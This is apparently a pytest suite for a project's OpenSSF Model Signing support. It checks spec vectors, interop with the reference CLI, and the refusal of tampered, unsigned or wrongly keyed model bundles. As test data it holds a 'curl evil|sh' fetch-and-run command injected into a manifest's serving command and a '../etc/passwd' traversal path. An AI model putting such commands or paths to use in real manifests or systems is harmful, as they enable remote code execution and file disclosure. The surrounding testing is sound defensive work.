"""OpenSSF Model Signing (pipelines/store/oms.py, signing.bundle_for / verify_bundle): the spec's own test vectors, and
interop both ways with the reference implementation (PyPI model-signing, its CLI in its own venv,
$HIVE_AOT_MODEL_SIGNING_VENV): what it signs verifies here, what hive-aot signs verifies there, and what either
side must refuse (a changed file, another key, a file nobody signed) is refused by both."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest
from factories import ecdsa_keypair

from pipelines.client import pulled_dir
from pipelines.core.errors import IntegrityError
from pipelines.store import oms
from pipelines.store.signing import PULL_MARKER, bundle_for, signed_files, trusted_keys, verify_bundle

VECTORS = Path(__file__).resolve().parents[1] / "data" / "oms"
VECTOR_HINT = "e8450dec4eb99dae995da9af1bc2cc9f76ed669ee2e744f57abba763df3e3f8e"
CURVES = ["P-256", "P-384", "P-521"]


def _vectors(kind: str) -> list[Path]:
    return sorted((VECTORS / kind).glob("*.bundle.json"))


def test_the_spec_vectors_are_all_here():
    assert [p.name for p in _vectors("valid")] == ["certificate.bundle.json", "key.bundle.json", "sigstore.bundle.json"]
    assert len(_vectors("invalid")) == 4 and len(_vectors("invalid-payload")) == 1


def test_the_valid_key_vector_parses_and_its_key_is_not_trusted(tmp_path):
    raw = (VECTORS / "valid" / "key.bundle.json").read_bytes()
    b = oms.parse(raw, "key.bundle.json")
    assert b.hint == VECTOR_HINT and b.public_pem is None and b.subject_name == "model"
    assert sorted(b.resources) == ["signme-1", "signme-2"] and "ignore-me" in b.ignore_paths
    _, pub = ecdsa_keypair(tmp_path, "someone", "P-384")
    for keys in ({}, trusted_keys(str(pub))):
        with pytest.raises(IntegrityError, match=f"signed by key {VECTOR_HINT[:16]}, which is not among the trusted"):
            oms.verify(raw, keys, "key.bundle.json")


@pytest.mark.parametrize("name", ["certificate", "sigstore"])
def test_the_valid_certificate_and_sigstore_vectors_are_refused_as_key_method_only(name):
    with pytest.raises(IntegrityError) as ei:
        oms.parse((VECTORS / "valid" / f"{name}.bundle.json").read_bytes(), f"{name}.bundle.json")
    assert str(ei.value) == f"{name}.bundle.json: its OMS signature uses the {name} method: not supported, key method only"


@pytest.mark.parametrize("path", _vectors("invalid") + _vectors("invalid-payload"), ids=lambda p: p.parent.name + "/" + p.name)
def test_every_invalid_vector_is_refused_in_one_line(path):
    with pytest.raises(IntegrityError, match=f"^{path.name}: its OMS signature is malformed \\(") as ei:
        oms.verify(path.read_bytes(), {}, path.name)
    assert "\n" not in str(ei.value)


# --- interop with the reference implementation ---------------------------------------------------------------

@pytest.fixture(scope="module")
def model_signing() -> Path:
    cli = Path(os.environ.get("HIVE_AOT_MODEL_SIGNING_VENV") or Path.cwd() / ".venvs" / "model-signing") / "bin" / "model_signing"
    if not cli.exists():
        pytest.fail(f"{cli} is missing: run `make setup` (it builds the model-signing venv)")
    return cli


def _run(cli: Path, *args) -> subprocess.CompletedProcess:
    return subprocess.run([str(cli), *map(str, args)], capture_output=True, text=True, timeout=120)


def _model_dir(d: Path) -> Path:
    """A small model: nested files, one empty, one with a name that sorts before the others by code point."""
    d.mkdir()
    (d / "weights").mkdir()
    (d / "weights" / "model-00001.safetensors").write_bytes(os.urandom(70_000))
    (d / "config.json").write_text('{"model_type": "llama"}')
    (d / "Tokenizer.json").write_text("{}")
    (d / "empty.txt").write_bytes(b"")
    return d


def _hashes(d: Path, skip: set[str] = frozenset()) -> dict[str, str]:
    return {str(p.relative_to(d)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in d.rglob("*") if p.is_file() and str(p.relative_to(d)) not in skip}


def test_what_the_reference_signs_verifies_here(model_signing, tmp_path):
    priv, pub = ecdsa_keypair(tmp_path, "theirs")
    _, other = ecdsa_keypair(tmp_path, "other")
    d = _model_dir(tmp_path / "m")
    r = _run(model_signing, "sign", "key", "--private_key", priv, "--signature", d / "model.sig", d)
    assert r.returncode == 0, r.stderr + r.stdout
    raw = (d / "model.sig").read_bytes()
    files = _hashes(d, {"model.sig"})
    kid = verify_bundle(raw, trusted_keys(str(pub)), files, "model.sig")
    assert kid == oms.parse(raw, "x").hint and len(kid) == 64
    with pytest.raises(IntegrityError, match="which is not among the trusted keys"):
        verify_bundle(raw, trusted_keys(str(other)), files, "model.sig")
    (d / "config.json").write_text('{"model_type": "evil"}')
    with pytest.raises(IntegrityError, match=r"for other files \(tampered with\): config.json has another sha256"):
        verify_bundle(raw, trusted_keys(str(pub)), _hashes(d, {"model.sig"}), "model.sig")
    with pytest.raises(IntegrityError, match="extra.bin is not signed"):
        verify_bundle(raw, trusted_keys(str(pub)), {**files, "extra.bin": "0" * 64}, "model.sig")
    with pytest.raises(IntegrityError, match="empty.txt is signed but absent"):
        verify_bundle(raw, trusted_keys(str(pub)), {k: v for k, v in files.items() if k != "empty.txt"}, "model.sig")


def test_older_bundle_shapes_verify(model_signing, tmp_path):
    """Bundles from before hints carry the public key itself (rawBytes, its PEM), and a DSSE keyid may be null or
    absent (spec 11.2): the signature does not cover either, so they verify by the same trusted key."""
    priv, pub = ecdsa_keypair(tmp_path, "theirs", "P-384")
    d = _model_dir(tmp_path / "m")
    assert _run(model_signing, "sign", "key", "--private_key", priv, "--signature", tmp_path / "sig", d).returncode == 0
    doc = json.loads((tmp_path / "sig").read_bytes())
    doc["verificationMaterial"] = {"publicKey": {"rawBytes": base64.b64encode(pub.read_bytes()).decode(),
                                                 "keyDetails": "PKIX_ECDSA_P384_SHA_384"}}
    doc["dsseEnvelope"]["signatures"][0]["keyid"] = None
    raw = json.dumps(doc).encode()
    assert verify_bundle(raw, trusted_keys(str(pub)), _hashes(d), "sig") == oms.key_hint(
        next(iter(trusted_keys(str(pub)).values())))
    del doc["dsseEnvelope"]["signatures"][0]["keyid"]
    assert verify_bundle(json.dumps(doc).encode(), trusted_keys(str(pub)), _hashes(d), "sig")
    _, other = ecdsa_keypair(tmp_path, "other", "P-384")
    with pytest.raises(IntegrityError, match="which is not among the trusted keys"):
        verify_bundle(raw, trusted_keys(str(other)), _hashes(d), "sig")


def _pulled_dir(d: Path, priv: Path) -> tuple[Path, bytes]:
    """What pull leaves: the build's files, hive-aot.manifest.json (the manifest's bytes), the pull marker and the
    bundle hive-aot signed (bundle_for) as model.sig."""
    from cryptography.hazmat.primitives import serialization

    _model_dir(d)
    files = [{"path": p, "sha256": h, "size": (d / p).stat().st_size} for p, h in sorted(_hashes(d).items())]
    manifest = json.dumps({"build_id": "b" * 64, "model": {"id": "test-org/oms"}, "files": files,
                           "serving": {"cpu": {"command": ["llama-server", "-m", "{model_dir}"]}}}).encode()
    (d / oms.MANIFEST_FILE).write_bytes(manifest)
    (d / PULL_MARKER).write_text(json.dumps({"build_id": "b" * 64}))
    key = serialization.load_pem_private_key(priv.read_bytes(), password=None)
    (d / oms.SIGNATURE_FILE).write_bytes(bundle_for(manifest, key))
    return d, manifest


@pytest.mark.parametrize("curve", CURVES)
def test_what_hive_aot_signs_the_reference_verifies(model_signing, curve, tmp_path):
    priv, pub = ecdsa_keypair(tmp_path, "ours", curve)
    d, _ = _pulled_dir(tmp_path / "pulled", priv)
    r = _run(model_signing, "verify", "key", "--signature", d / "model.sig", "--public_key", pub, d)
    assert r.returncode == 0 and "Verification succeeded" in r.stdout, r.stdout + r.stderr


@pytest.mark.parametrize("change", ["a-changed-file", "a-changed-manifest", "an-extra-file", "a-missing-file",
                                    "another-key"])
def test_the_reference_refuses_what_changed_after_hive_aot_signed(model_signing, change, tmp_path):
    priv, pub = ecdsa_keypair(tmp_path, "ours")
    d, manifest = _pulled_dir(tmp_path / "pulled", priv)
    if change == "a-changed-file":
        (d / "weights" / "model-00001.safetensors").write_bytes(os.urandom(70_000))
    elif change == "a-changed-manifest":  # the serving command is signed through the manifest's bytes
        (d / oms.MANIFEST_FILE).write_bytes(manifest.replace(b"llama-server", b"curl evil|sh"))
    elif change == "an-extra-file":
        (d / "weights" / "extra.safetensors").write_bytes(b"x")
    elif change == "a-missing-file":
        (d / "empty.txt").unlink()
    else:
        _, pub = ecdsa_keypair(tmp_path, "other")
    r = _run(model_signing, "verify", "key", "--signature", d / "model.sig", "--public_key", pub, d)
    assert r.returncode != 0 and "Verification failed" in r.stdout + r.stderr, r.stdout + r.stderr


# --- hive-aot's own sign and verify ----------------------------------------------------------------------------

def _key(priv: Path):
    from cryptography.hazmat.primitives import serialization

    return serialization.load_pem_private_key(priv.read_bytes(), password=None)


@pytest.mark.parametrize("curve", CURVES)
def test_round_trip_on_every_curve(curve, tmp_path):
    priv, pub = ecdsa_keypair(tmp_path, "k", curve)
    _, manifest = _pulled_dir(tmp_path / "d", priv)
    raw = (tmp_path / "d" / oms.SIGNATURE_FILE).read_bytes()
    keys = trusted_keys(str(pub))
    assert verify_bundle(raw, keys, signed_files(manifest), "sig") == next(iter(keys))
    b = oms.parse(raw, "sig")
    assert list(b.resources) == sorted(b.resources) and b.resources[oms.MANIFEST_FILE] == hashlib.sha256(manifest).hexdigest()
    assert {PULL_MARKER, oms.SIGNATURE_FILE, ".git"} <= set(b.ignore_paths)
    statement = json.loads(b.payload)
    assert statement["predicateType"] == "https://model_signing/signature/v1.0" and b.subject_name == "test-org/oms"
    assert statement["subject"][0]["digest"]["sha256"] == oms.root_digest(list(b.resources.values()))


def _resigned_payload(raw: bytes, edit) -> bytes:
    """The bundle with its statement edited (root digest kept consistent) but its signature left as it was."""
    doc = json.loads(raw)
    st = json.loads(base64.b64decode(doc["dsseEnvelope"]["payload"]))
    edit(st)
    st["subject"][0]["digest"]["sha256"] = oms.root_digest([r["digest"] for r in st["predicate"]["resources"]])
    doc["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(st).encode()).decode()
    return json.dumps(doc).encode()


def test_a_changed_statement_or_signature_does_not_verify(tmp_path):
    priv, pub = ecdsa_keypair(tmp_path, "k")
    _, manifest = _pulled_dir(tmp_path / "d", priv)
    raw = (tmp_path / "d" / oms.SIGNATURE_FILE).read_bytes()
    keys, files = trusted_keys(str(pub)), signed_files(manifest)
    forged = _resigned_payload(raw, lambda st: st["predicate"]["resources"][0].update(digest="0" * 64))
    with pytest.raises(IntegrityError, match=r"its signature does not match its bytes \(tampered with\)"):
        verify_bundle(forged, keys, files, "sig")
    doc = json.loads(raw)
    sig = bytearray(base64.b64decode(doc["dsseEnvelope"]["signatures"][0]["sig"]))
    sig[-1] ^= 1
    doc["dsseEnvelope"]["signatures"][0]["sig"] = base64.b64encode(bytes(sig)).decode()
    with pytest.raises(IntegrityError, match="does not match its bytes"):
        verify_bundle(json.dumps(doc).encode(), keys, files, "sig")


@pytest.mark.parametrize("edit, why", [
    (lambda st: st["predicate"]["serialization"].update(method="shards", shard_size=1000),
     "uses the shards serialization: not supported, files only"),
    (lambda st: st["predicate"]["serialization"].update(hash_type="blake3"),
     "hashes files with blake3: not supported, sha256 only"),
    (lambda st: st["predicate"]["resources"].append(dict(st["predicate"]["resources"][0])), "is listed twice"),
    (lambda st: st["predicate"]["resources"][0].update(name="../etc/passwd"), "is not a relative path"),
    (lambda st: st["predicate"]["resources"][0].update(digest="ab"), "its digest is not a sha256"),
    (lambda st: st["predicate"]["serialization"].update(shard_size=5), "shard_size must be a positive integer"),
    (lambda st: st.update(extra=1), "does not have exactly _type, subject, predicateType, predicate"),
])
def test_statements_outside_what_hive_aot_verifies_are_refused_before_any_key(edit, why, tmp_path):
    priv, _ = ecdsa_keypair(tmp_path, "k")
    _pulled_dir(tmp_path / "d", priv)
    raw = _resigned_payload((tmp_path / "d" / oms.SIGNATURE_FILE).read_bytes(), edit)
    with pytest.raises(IntegrityError, match=why):
        oms.parse(raw, "sig")


def test_a_subject_that_is_not_the_root_digest_is_refused(tmp_path):
    priv, _ = ecdsa_keypair(tmp_path, "k")
    _pulled_dir(tmp_path / "d", priv)
    doc = json.loads((tmp_path / "d" / oms.SIGNATURE_FILE).read_bytes())
    st = json.loads(base64.b64decode(doc["dsseEnvelope"]["payload"]))
    st["subject"][0]["digest"]["sha256"] = "0" * 64
    doc["dsseEnvelope"]["payload"] = base64.b64encode(json.dumps(st).encode()).decode()
    with pytest.raises(IntegrityError, match="subject digest is not the root digest of its resources"):
        oms.parse(json.dumps(doc).encode(), "sig")


def test_what_bundle_for_leaves_unsigned_and_refuses(tmp_path):
    """A build file under a default exclusion (.gitattributes) is signed, so that exclusion is not recorded (a
    verifier would skip the file and miss it); a build file named as a pulled directory's own files is refused."""
    priv, _ = ecdsa_keypair(tmp_path, "k")
    files = [{"path": ".gitattributes", "sha256": "1" * 64, "size": 1}, {"path": "a", "sha256": "2" * 64, "size": 1}]
    b = oms.parse(bundle_for(json.dumps({"files": files}).encode(), _key(priv)), "sig")
    assert ".gitattributes" in b.resources and ".gitattributes" not in b.ignore_paths and ".git" in b.ignore_paths
    assert b.subject_name == "model"
    for reserved in (PULL_MARKER, oms.SIGNATURE_FILE, oms.MANIFEST_FILE):
        with pytest.raises(IntegrityError, match=f"file {reserved} has a name a pulled directory reserves"):
            bundle_for(json.dumps({"files": [{"path": reserved, "sha256": "1" * 64}]}).encode(), _key(priv))
    assert PULL_MARKER == pulled_dir.MARKER

